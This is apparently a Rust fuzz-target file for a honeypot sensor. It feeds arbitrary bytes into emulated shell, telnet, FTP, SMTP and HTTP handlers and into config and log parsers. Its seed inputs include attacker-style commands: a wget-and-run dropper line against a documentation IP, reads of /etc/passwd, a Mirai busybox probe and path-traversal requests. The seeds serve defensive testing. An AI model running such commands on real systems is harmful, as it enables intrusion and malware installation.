//! What is fuzzed: every door that a stranger's bytes come in by. Any bytes at all must neither panic nor hang.
//!
//! `cargo +nightly fuzz run NAME -- -max_len=4096 -timeout=20` follows coverage (cargo-fuzz). `acceptance/tests/fuzz.rs`
//! drives the same functions on a stable toolchain with mutated seeds, as part of every test run;
//! `RUSTBUCKET_FUZZ_SECONDS=180 cargo test -p acceptance --test fuzz` does it for longer.

use std::{
    net::{Ipv4Addr, SocketAddr},
    sync::{
        Arc, LazyLock,
        atomic::{AtomicU32, Ordering},
    },
    time::{Duration, SystemTime},
};

use decoy::{
    Clock, Contact, Dialogue, Ftp, Http, Limits, Machine, NoOracle, Plain, Smtp, Stage, Telnet, Terminal,
    TerminalMode, Turn,
    ftp::{DataConnections, DataFault, Received},
    machine::{Bounds, Identity, LoginPolicy},
    memory::Parcel,
    shell::{Input, Launch, Output, Shell},
};

/// A door: its name, what it does with bytes, and bytes that mean something there.
pub struct Target {
    /// As cargo-fuzz calls it.
    pub name: &'static str,
    /// Panics when something is wrong with the answer.
    pub run: fn(&[u8]),
    /// Where mutation begins.
    pub seeds: &'static [&'static [u8]],
}

/// Every door.
pub const TARGETS: &[Target] = &[
    Target {
        name: "shell_line",
        run: shell_line,
        seeds: &[
            b"cd /tmp || cd /var/run; wget http://192.0.2.1/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh",
            b"for i in $(seq 1 3); do echo \"$i: ${HOME%/*} $((i * 2))\" | tr a-z A-Z >> /tmp/o; done; cat /tmp/o",
            b"x=$(cat /proc/cpuinfo | grep name | head -n1 | awk '{print $4,$5;}'); echo -e \"\\x41\\101$x\" && test -f /bin/ls",
            b"f() { local a=$1; [ $a -gt 0 ] && f $((a-1)); }; f 5; case $1 in *) echo `uname -a`;; esac",
            b"cat <<EOF | base64 -d\naGVsbG8=\nEOF\nbusybox cat /etc/passwd | cut -d: -f1 | sort | uniq -c | sed 's/r/R/g'",
            b"while :; do break; done; until false; do exit 3; done & wait; eval \"$(printf '%s' 'echo hi')\"",
        ],
    },
    Target {
        name: "terminal",
        run: terminal,
        seeds: &[
            b"ls -la\r\x1b[A\x1b[D\x7f\x15id\r\x03cat > x\rhello\r\x04exit\r",
            b"enable\rsystem\rshell\rsh\r/bin/busybox MIRAI\r\tcd /t\t\r",
        ],
    },
    Target {
        name: "telnet",
        run: telnet,
        seeds: &[
            b"\xff\xfd\x01\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0root\r\nSummer2024\r\nuname -a\r\n\xff\xf4\xff\xfaexit\r\n",
            b"\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfa\x27\x00\x00USER\x01root\xff\xf0root\r\0admin\r\0",
        ],
    },
    Target {
        name: "ftp",
        run: ftp,
        seeds: &[
            b"USER deploy\r\nPASS Summer2024\r\nPASV\r\nSTOR a\r\nREST 2\r\nEPSV\r\nRETR a\r\nPASV\r\nLIST -la /\r\nRNFR a\r\nRNTO b\r\nMKD d\r\nDELE b\r\nQUIT\r\n",
            b"AUTH TLS\r\nFEAT\r\nOPTS UTF8 ON\r\nPORT 1,2,3,4,5,6\r\nEPRT |1|1.2.3.4|5|\r\nSITE CHMOD 777 x\r\nMDTM /etc/passwd\r\nSIZE /etc/passwd\r\nSTAT /\r\nABOR\r\n",
        ],
    },
    Target {
        name: "smtp",
        run: smtp,
        seeds: &[
            b"EHLO x\r\nMAIL FROM:<a@b> SIZE=10 BODY=8BITMIME\r\nRCPT TO:<root>\r\nDATA\r\nSubject: =?utf-8?q?x?=\r\n\r\n..hi\r\n.\r\nVRFY root\r\nQUIT\r\n",
            b"HELO y\r\nAUTH LOGIN\r\ncm9vdA==\r\neA==\r\nMAIL FROM:<>\r\nRCPT TO:<@a:deploy@web01>\r\nBDAT 4\r\nabcdBDAT 0 LAST\r\nSTARTTLS\r\nXCLIENT a\r\n",
        ],
    },
    Target {
        name: "http",
        run: http,
        seeds: &[
            b"GET /index.nginx-debian.html?a=%2e%2e HTTP/1.1\r\nHost: x\r\nRange: bytes=0-5,-3\r\nAccept-Encoding: gzip\r\n\r\nHEAD / HTTP/1.0\r\n\r\n",
            b"POST /cgi-bin/../../x HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n\r\n5;a=b\r\nhello\r\n0\r\nT: v\r\n\r\nOPTIONS * HTTP/1.1\r\nHost: y\r\n\r\n",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        ],
    },
    Target { name: "plain", run: plain, seeds: &[b"hello\r\nUSER x\n\n\0\xff\r\n"] },
    Target {
        name: "registration",
        run: registration,
        seeds: &[
            br#"{"name":"rustbucket-AbCd1234","token":"0123456789abcdef0123456789abcdef","ip_address":"203.0.113.9","management_port":8443,"certificate_sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08","uptime":null,"registration_key":"k"}"#,
            br#"{"name":"rustbucket-AbCd1234","token":"0123456789abcdef0123456789abcdef","ip_address":"::ffff:127.0.0.1","management_port":"0"}"#,
        ],
    },
    Target {
        name: "log_line",
        run: log_line,
        seeds: &[
            br#"{"eventid":"cowrie.login.success","username":"root","password":"\u0000\ud83d\ude00","message":"m","timestamp":"2026-11-21T10:00:00.000000Z","sensor":"rustbucket-AbCd1234","uuid":"u","session":"0123456789ab","src_ip":"192.0.2.1","src_port":40000,"dst_ip":"192.0.2.2","dst_port":22,"protocol":"ssh","seq":7,"boot_id":"b","event_uuid":"b-7","schema":1}"#,
            br#"{"eventid":"rustbucket.log.gap","from_seq":3,"to_seq":5,"bytes":10,"reason":"disk","message":"m","timestamp":"2026-11-21T10:00:00Z","sensor":"rustbucket-AbCd1234","session":"000000000000","src_ip":"","src_port":0,"dst_port":0,"protocol":"rustbucket","seq":6,"event_uuid":"x"}"#,
        ],
    },
    Target {
        name: "bucket_settings",
        run: bucket_settings,
        seeds: &[
            b"[general]\nlog_level = \"info\"\n[ports]\nssh = { port = 2222 }\nextra = { port = 9, protocol = \"plain\", banner = \"x\" }\n[limits]\nidle_timeout = \"5m\"\nmemory = \"512MiB\"\n[logins]\nalways = [\"root:x\"]\n",
            b"[chat]\nproviders = [\"canned\"]\ntimeout = \"8s\"\nbudget_per_day = \"1.50\"\n[openai.static_messages]\nmessage1 = \"a\"\n[registration]\nrustbucket_registry_url = \"https://r.example\"\n",
        ],
    },
    Target {
        name: "registry_settings",
        run: registry_settings,
        seeds: &[
            b"[server]\nlisten = \"127.0.0.1:8000\"\ntrusted_proxies = [\"10.0.0.0/8\"]\n[database]\nurl = \"mysql://u:p@h/db\"\n[storage]\nurl = \"s3://b/p\"\n[storage.s3]\nendpoint = \"http://x\"\n",
            b"[schedule]\nparse_logs = \"1h\"\n[registration]\nallowed_networks = [\"127.0.0.0/8\", \"::/0\"]\n[pull]\nmax_response = \"64MiB\"\n[retention]\nevents_days = 90\n",
        ],
    },
];

/// How long a daemon may take for one input; nothing in it waits for anybody.
const HANG: Duration = Duration::from_secs(20);
/// How long a line in a shell may wait, as `sleep` does, before the visitor goes away.
const PATIENCE: Duration = Duration::from_secs(1);

/// A machine where `deploy` and `root` have the password `Summer2024`. One for all: making it takes longer than a visit.
static MACHINE: LazyLock<Arc<Machine>> = LazyLock::new(|| {
    let now = SystemTime::UNIX_EPOCH + Duration::from_secs(1_790_000_000);
    let (name, users) = ("web01.lindqvist.example".to_owned(), vec!["deploy".to_owned()]);
    let identity = Identity::draw(b"fuzz", now, Some(name), Some(users));
    let always = ["deploy", "root"].map(|user| (user.to_owned(), "Summer2024".to_owned())).to_vec();
    let policy = LoginPolicy { always, fewest_tries: 99, most_tries: 99, secret: 1 };
    Machine::new(identity, policy, Clock::fixed(now), Bounds { visitors: 16, ..Bounds::default() })
});

/// A visitor who was never there before.
fn contact() -> Contact {
    static VISITORS: AtomicU32 = AtomicU32::new(0x0a00_0000);
    let source = Ipv4Addr::from(VISITORS.fetch_add(1, Ordering::Relaxed));
    let peer: SocketAddr = (source, 40_000).into();
    Contact {
        visitor: MACHINE.visit(peer.ip()),
        oracle: Arc::new(NoOracle),
        local: ([203, 0, 113, 5], 22).into(),
        peer,
        limits: Limits::default(),
    }
}

/// Runs work as the sensor's threads do: on a large stack, with time.
fn on_a_trap_thread<T: Send + 'static>(work: impl Future<Output = T> + Send + 'static) -> T {
    let run = move || {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_time().build();
        runtime.expect("a runtime").block_on(work)
    };
    let thread = std::thread::Builder::new().stack_size(64 << 20).spawn(run).expect("a thread");
    thread.join().unwrap_or_else(|panic| std::panic::resume_unwind(panic))
}

/// Holds a whole conversation: the bytes in two pieces, cut where their first byte says. Gives what was said.
async fn hold(mut dialogue: Box<dyn Dialogue>, data: Vec<u8>, patience: Option<Duration>) -> Vec<u8> {
    let stage = Stage::new();
    let at = data.first().map_or(0, |first| usize::from(*first)).min(data.len());
    let (front, back) = data.split_at(at);
    let mut said = Vec::new();
    let talk = async {
        dialogue.open(&stage).await;
        for piece in [front, back] {
            dialogue.hear(piece, &stage).await;
        }
        dialogue.end(&stage).await;
    };
    let mut take = || {
        while let Some(turn) = stage.next_turn() {
            if let Turn::Say(bytes) | Turn::SayError(bytes) = turn {
                // No visitor keeps everything either.
                said.truncate(1 << 20);
                said.extend_from_slice(&bytes);
            }
        }
    };
    let heard = async {
        let mut talk = std::pin::pin!(talk);
        loop {
            tokio::select! {
                biased;
                () = &mut talk => break,
                () = stage.turns_added() => take(),
            }
        }
        take();
    };
    let ended = tokio::time::timeout(patience.unwrap_or(HANG), heard).await;
    assert!(ended.is_ok() || patience.is_some(), "a daemon that waits for nobody hangs");
    said
}

/// Whole lines, whatever they are: the shell must come back from each.
pub fn shell_line(data: &[u8]) {
    let lines = String::from_utf8_lossy(data).into_owned();
    on_a_trap_thread(async move {
        let contact = contact();
        let account = contact.visitor.identity().account("root").expect("root is always there").clone();
        let tty = Some("pts/0".to_owned());
        let launch =
            Launch { account, login: true, tty, env: vec![], window: (80, 24), notes: Arc::new(|_| {}) };
        let mut shell = Shell::new(&contact, launch);
        let output: Output = Arc::new(|_, _: &[u8]| {});
        let input = Input::default();
        input.end();
        let _more = shell.wants_more(&lines);
        // A line that waits is interrupted, as a visitor would.
        let _ended = tokio::time::timeout(PATIENCE, shell.run(&lines, &output, &input)).await;
    });
}

/// Keys on a terminal.
pub fn terminal(data: &[u8]) {
    let data = data.to_vec();
    on_a_trap_thread(async move {
        let contact = contact();
        let account = contact.visitor.identity().account("root").expect("root is always there").clone();
        let env = vec![("TERM".to_owned(), "xterm".to_owned())];
        let mode = TerminalMode::Interactive { tty: "pts/0".to_owned(), window: (80, 24), env };
        hold(Box::new(Terminal::new(contact, account, mode)), data, Some(PATIENCE)).await;
    });
}

/// A Telnet connection.
pub fn telnet(data: &[u8]) {
    let data = data.to_vec();
    on_a_trap_thread(async move { hold(Box::new(Telnet::new(contact())), data, Some(PATIENCE)).await });
}

/// A data connection that always has a few bytes.
struct Wire;

#[async_trait::async_trait]
impl DataConnections for Wire {
    async fn listen(&mut self) -> Option<u16> {
        Some(40_321)
    }
    async fn send(&mut self, _bytes: bytes::Bytes) -> Result<(), DataFault> {
        Ok(())
    }
    async fn receive(&mut self, limit: usize, mut parcel: Parcel) -> Result<Received, DataFault> {
        let bytes = b"some bytes";
        let starved = !parcel.add(bytes.get(..limit).unwrap_or(bytes));
        Ok(Received { bytes: parcel.into_bytes(), truncated: false, starved })
    }
    fn close(&mut self) {}
}

/// An FTP control connection. Every answer is whole lines.
pub fn ftp(data: &[u8]) {
    let data = data.to_vec();
    let said =
        on_a_trap_thread(
            async move { hold(Box::new(Ftp::new(contact(), Box::new(Wire))), data, None).await },
        );
    assert!(said.ends_with(b"\r\n"), "half a line is said");
}

/// An SMTP connection. Every answer is whole lines.
pub fn smtp(data: &[u8]) {
    let data = data.to_vec();
    let said = on_a_trap_thread(async move { hold(Box::new(Smtp::new(contact())), data, None).await });
    assert!(said.ends_with(b"\r\n"), "half a line is said");
}

/// An HTTP connection.
pub fn http(data: &[u8]) {
    let data = data.to_vec();
    on_a_trap_thread(async move { hold(Box::new(Http::new(contact())), data, None).await });
}

/// A plain port.
pub fn plain(data: &[u8]) {
    let data = data.to_vec();
    on_a_trap_thread(
        async move { hold(Box::new(Plain::new(contact(), "ready".to_owned())), data, None).await },
    );
}

/// What a bucket, or somebody who says so, registers with: understood, or every fault named.
pub fn registration(data: &[u8]) {
    let faults = registry::http::register_bucket::faults(data);
    assert!(faults.iter().all(|fault| !fault.is_empty() && fault.len() < 4096));
}

/// A line of a bucket's log: an event, or the reason why it is none.
pub fn log_line(data: &[u8]) {
    match registry::log_parser::parse_line(data, "rustbucket-AbCd1234") {
        Ok(event) => assert!(event.seq > 0 && !event.eventid.is_empty()),
        Err(reason) => assert!(!reason.is_empty()),
    }
}

/// A bucket's settings; the folders it makes are ours, whatever the text says.
pub fn bucket_settings(data: &[u8]) {
    let folder = tempfile::tempdir().expect("a folder");
    let at = |name: &str| folder.path().join(name).display().to_string();
    let environment = [
        ("RUSTBUCKET_GENERAL__LOG_DIRECTORY".to_owned(), at("logs")),
        ("RUSTBUCKET_GENERAL__STATE_DIRECTORY".to_owned(), at("state")),
    ];
    let text = String::from_utf8_lossy(data);
    if let Err(faults) = sensor::config::Config::read("Config.toml", &text, environment) {
        assert!(!faults.faults.is_empty() && !faults.to_string().is_empty());
    }
}

/// A registry's settings.
pub fn registry_settings(data: &[u8]) {
    let text = String::from_utf8_lossy(data);
    if let Err(faults) = registry::Config::parse("Registry.toml", &text, []) {
        assert!(!faults.faults.is_empty() && !faults.to_string().is_empty());
    }
}
